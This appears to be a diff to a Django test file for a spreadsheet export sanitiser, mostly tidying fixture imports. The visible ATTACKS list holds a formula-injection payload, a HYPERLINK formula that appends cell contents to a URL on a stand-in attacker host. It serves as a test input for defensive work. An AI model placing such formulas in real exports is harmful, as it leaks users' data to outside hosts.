@@ -14,17 +14,9 @@ from community.models import Feedback
 from home.exports import neutralise_formula
 from legal_guides.models import GuideFeedback
 from search.models import ZeroResultQuery
-from tests.courses import conftest as courses_fixtures
-from tests.legal_guides import conftest as guide_fixtures
+from tests.courses.conftest import person
 
 pytestmark = pytest.mark.django_db
-
-course_index, make_course, person = (
-    courses_fixtures.course_index,
-    courses_fixtures.make_course,
-    courses_fixtures.person,
-)
-guide_index, make_guide = guide_fixtures.guide_index, guide_fixtures.make_guide
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&F2,"Ver")',
